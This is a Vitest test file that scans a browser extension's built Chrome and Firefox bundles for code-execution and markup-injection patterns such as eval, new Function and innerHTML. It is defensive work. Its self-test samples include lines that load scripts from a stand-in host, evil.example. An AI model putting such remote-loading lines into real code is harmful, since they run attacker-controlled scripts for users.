import { readdirSync, readFileSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { expect, test } from 'vitest';

const output = resolve(import.meta.dirname, '../../.output');
const builds = ['chrome-mv3', 'firefox-mv3'];

/** What could run text as code, fetch code from elsewhere, or make markup of text. */
const forbidden: readonly (readonly [string, RegExp])[] = [
  ['eval', /(?<![\w$.])eval\s*\(|\beval\?\.\(|\(0,\s*eval\)/],
  ['new Function', /\bnew\s+Function\b|(?<![\w$.])Function\s*\(\s*["'`]/],
  ['a timer of text', /\bset(?:Timeout|Interval)\s*\(\s*["'`]/],
  ['importScripts', /\bimportScripts\b/],
  ['code from elsewhere', /\bimport\s*\(\s*["'`]https?:|\bfrom\s*["'`]https?:|<script[^>]+src="https?:/],
  [
    'markup of text',
    /\.outerHTML\s*=|\binsertAdjacentHTML\b|\bdocument\.write\b|\bcreateContextualFragment\b/,
  ],
];
/** Preact's, which is reached by `dangerouslySetInnerHTML` alone; the linter keeps that out of our code. */
const innerHtmlOfPreact = /\.__html==[\w$]+\.innerHTML\)\|\|\([\w$]+\.innerHTML=[\w$]+\.__html\)/g;

const codeIn = (folder: string) =>
  readdirSync(folder, { recursive: true, encoding: 'utf8' })
    .filter((name) => /\.(js|html)$/.test(name))
    .map((name) => [name, readFileSync(join(folder, name), 'utf8')] as const);

test.each(builds)(
  'M18: nothing in the build runs text as code, loads code or makes markup of text (%s)',
  (build) => {
    const files = codeIn(join(output, build));
    expect(files.length).toBeGreaterThan(5);
    for (const [name, code] of files) {
      const found = forbidden.filter(([, pattern]) => pattern.test(code)).map(([what]) => what);
      expect(found, name).toEqual([]);
      const others = code.replace(innerHtmlOfPreact, '');
      expect(others, name).not.toMatch(/\.innerHTML\s*=[^=]/);
      expect(others, name).not.toMatch(/dangerouslySetInnerHTML\s*:/);
    }
  },
);

test('M18: the search finds what it looks for', () => {
  for (const [what, sample] of [
    ['eval', 'x=eval("1")'],
    ['eval', '(0,eval)(x)'],
    ['new Function', 'new Function("return 1")'],
    ['a timer of text', 'setTimeout("alert(1)",1)'],
    ['importScripts', 'importScripts(u)'],
    ['code from elsewhere', 'import("https://evil.example/x.js")'],
    ['code from elsewhere', '<script src="https://evil.example/x.js">'],
    ['markup of text', 'e.insertAdjacentHTML("beforeend",x)'],
  ]) {
    expect(forbidden.find(([name]) => name === what)?.[1].test(sample ?? ''), sample).toBe(true);
  }
});
